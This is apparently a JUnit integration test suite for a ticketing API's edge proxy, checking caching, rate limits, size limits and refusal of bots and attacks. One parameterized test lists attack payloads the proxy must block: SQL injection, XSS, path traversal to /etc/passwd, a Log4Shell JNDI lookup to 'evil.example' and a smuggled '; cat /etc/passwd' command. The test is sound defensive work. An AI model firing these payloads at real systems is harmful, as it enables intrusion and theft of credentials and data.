package io.boxoffice.edge;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class EdgeIT {
    private static Origin origin;
    private static Edge edge;

    @BeforeAll
    static void start(@TempDir Path home) throws Exception {
        origin = new Origin();
        edge = Edge.before(origin, home, Map.of("EDGE_RATE", "1000r/s", "EDGE_BURST", "10000"));
    }

    @AfterAll
    static void stop() {
        if (edge != null) {
            edge.close();
        }
        origin.close();
    }

    private static String newPath(String pattern) {
        return pattern.replace("ID", UUID.randomUUID().toString());
    }

    @Test
    void anImageIsAskedOfTheOriginOnce() throws Exception {
        var path = "/api/v1/images/" + UUID.randomUUID().toString().replace("-", "");
        origin.allowKeeping(path, "public, max-age=86400, immutable");

        for (int i = 0; i < 5; i++) {
            assertThat(edge.send("GET", path, "").statusCode()).isEqualTo(200);
        }

        assertThat(origin.timesAsked(path)).isEqualTo(1);
    }

    @Test
    void theSharedStatusOfAQueueIsKeptAsLongAsTheOriginSays() throws Exception {
        var path = newPath("/api/v1/events/ID/queue");
        origin.allowKeeping(path, "public, max-age=60");

        var first = edge.send("GET", path, "");
        var second = edge.send("GET", path, "");

        assertThat(first.headers().firstValue("X-Cache")).hasValue("MISS");
        assertThat(second.headers().firstValue("X-Cache")).hasValue("HIT");
        assertThat(origin.timesAsked(path)).isEqualTo(1);
    }

    @Test
    void whatSomebodySeesWithATokenIsNeverKept() throws Exception {
        var path = newPath("/api/v1/events/ID");
        origin.allowKeeping(path, "public, max-age=60");

        edge.send("GET", path, "", "Authorization", "Bearer of-somebody");
        edge.send("GET", path, "", "Authorization", "Bearer of-somebody-else");

        assertThat(origin.timesAsked(path)).isEqualTo(2);
    }

    @Test
    void whatWasKeptIsServedWhileTheOriginIsAway(@TempDir Path home) throws Exception {
        var path = newPath("/api/v1/events/ID/queue");
        try (var dying = new Origin();
                var before = Edge.before(dying, home, Map.of())) {
            dying.allowKeeping(path, "public, max-age=1");
            before.send("GET", path, "");
            dying.close();

            await().untilAsserted(() -> {
                var kept = before.send("GET", path, "");
                assertThat(kept.statusCode()).isEqualTo(200);
                assertThat(kept.headers().firstValue("X-Cache")).hasValue("STALE");
            });
            assertProblem(before.send("GET", newPath("/api/v1/events/ID/tickets"), ""), 503, "service-unavailable");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "sqlmap/1.7",
                "python-requests/2.31",
                "Scrapy/2.11 (+https://scrapy.org)",
                "Mozilla/5.0 HeadlessChrome/130.0",
                "Go-http-client/1.1",
                "GPTBot/1.0"
            })
    void knownBotsAreRefused(String client) throws Exception {
        var path = newPath("/api/v1/events/ID/queue");

        assertProblem(edge.send("GET", path, "", "User-Agent", client), 403, "request-refused");
        assertThat(origin.timesAsked(path)).isZero();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "GET    | /api/v1/events?q=1%27%20OR%20%271%27=%271%27--%20 |",
                "GET    | /api/v1/events?city=%3Cscript%3Ealert(1)%3C/script%3E |",
                "GET    | /api/v1/events?q=../../../../etc/passwd |",
                "POST   | /api/v1/events | {\"name\":\"x' UNION SELECT password FROM users--\"}",
                "POST   | /api/v1/venues | {\"name\":\"<script>alert(document.cookie)</script>\"}",
                "PATCH  | /api/v1/events/1 | {\"artist\":\"${jndi:ldap://evil.example/a}\"}",
                "POST   | /api/v1/challenges | {\"device_id\":\"; cat /etc/passwd\"}"
            })
    void attacksAreRefused(String method, String path, String body) throws Exception {
        assertProblem(edge.send(method, path, body == null ? "" : body), 403, "request-refused");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "POST   | /api/v1/events | {\"name\":\"Guns N' Roses (live)\",\"artist\":\"AC/DC & friends\",\"description\":\"Please select your seat; doors open from 19:00 where indicated. It's on!\"}",
                "POST   | /api/v1/events | {\"name\":\"Žluťoučký kůň & Łódź – 東京\",\"sale_dates\":{\"presale\":null,\"general\":\"2027-06-03T10:00:00Z\"},\"pricing_tiers\":[{\"section\":\"Floor\",\"price\":500.00}]}",
                "PATCH  | /api/v1/events/1 | {\"doors_open\":\"2027-08-15T18:00:00Z\"}",
                "PUT    | /api/v1/ops/events/1/queue | {\"mode\":\"PAUSED\",\"message\":\"Back at 20:15 - don't leave!\"}",
                "POST   | /api/v1/events/1/queue/entries | {\"device_id\":\"5d1b\",\"secret_hash\":\"n4bQgYhMfWWaL-qgxVrQFaO_TxsrC4Is0V1sFbDwCgg\"}",
                "POST   | /api/v1/events/1/scans | {\"code\":\"BX1.S.eyJrIjoidGVzdC0xIn0.H5fKuJLX2rQtkJt8xLyGKb3wyNRzy-nIEI_JTmCbhNq0wcVbahfKqQgmPpOo2FTcou-MlA1jMvrvIRQud9mvDw\",\"gate\":\"A\",\"scanned_at\":\"2027-08-15T18:31:00Z\",\"nonce\":\"1\",\"direction\":\"IN\"}",
                "DELETE | /api/v1/resale/listings/1 |"
            })
    void whatPeopleReallySendPasses(String method, String path, String body) throws Exception {
        var answer = edge.send(method, path, body == null ? "" : body);

        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(200);
        assertThat(answer.body()).contains("\"method\":\"" + method + "\"");
    }

    @Test
    void anImageOfTenMegabytesPassesAndALargerOneDoesNot() throws Exception {
        var path = newPath("/api/v1/events/ID/images");
        var bytes = new byte[10 * 1024 * 1024];

        var whole = edge.send("POST", path, BodyPublishers.ofByteArray(bytes), "Content-Type", "image/png");
        var larger = edge.send(
                "POST", path, BodyPublishers.ofByteArray(new byte[bytes.length + 1]), "Content-Type", "image/png");

        assertThat(whole.body()).contains("\"bytes\":" + bytes.length);
        assertProblem(larger, 413, "body-too-large");
    }

    @Test
    void nobodyChoosesTheirOwnAddress(@TempDir Path home) throws Exception {
        var path = newPath("/api/v1/events/ID/queue");
        try (var strict = Edge.before(origin, home, Map.of("EDGE_TRUSTED_PROXIES", "192.0.2.1/32"))) {
            strict.send("GET", path, "", "X-Forwarded-For", "203.0.113.9");
        }

        assertThat(origin.forwardedFor(path)).containsExactly("127.0.0.1");
    }

    @Test
    void oneAddressIsHeldToItsRateAndAnotherIsNotDisturbed(@TempDir Path home) throws Exception {
        try (var slow = Edge.before(origin, home, Map.of("EDGE_RATE", "1r/m", "EDGE_BURST", "3"))) {
            var path = newPath("/api/v1/events/ID/tickets");
            for (int i = 0; i < 4; i++) {
                assertThat(slow.send("GET", path, "", "X-Forwarded-For", "203.0.113.1")
                                .statusCode())
                        .isEqualTo(200);
            }

            var tooMuch = slow.send("GET", path, "", "X-Forwarded-For", "203.0.113.1");
            var another = slow.send("GET", path, "", "X-Forwarded-For", "203.0.113.2");

            assertProblem(tooMuch, 429, "rate-limited");
            assertThat(tooMuch.headers().firstValue("Retry-After")).isPresent();
            assertThat(another.statusCode()).isEqualTo(200);
        }
    }

    @Test
    void refusedNetworksGetNothing(@TempDir Path home) throws Exception {
        var list = java.nio.file.Files.writeString(home.resolve("refused.conf"), "203.0.113.0/24 1;\n");
        try (var closed = Edge.before(origin, home, Map.of("EDGE_REFUSED_NETWORKS", list.toString()))) {
            var path = newPath("/api/v1/events/ID/queue");

            assertProblem(closed.send("GET", path, "", "X-Forwarded-For", "203.0.113.7"), 403, "request-refused");
            assertThat(closed.send("GET", path, "", "X-Forwarded-For", "198.51.100.7")
                            .statusCode())
                    .isEqualTo(200);
        }
    }

    private static void assertProblem(HttpResponse<String> answer, int status, String code) {
        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(status);
        assertThat(answer.headers().firstValue("Content-Type")).hasValue("application/problem+json");
        assertThat(answer.body()).contains("\"code\":\"" + code + "\"");
    }
}
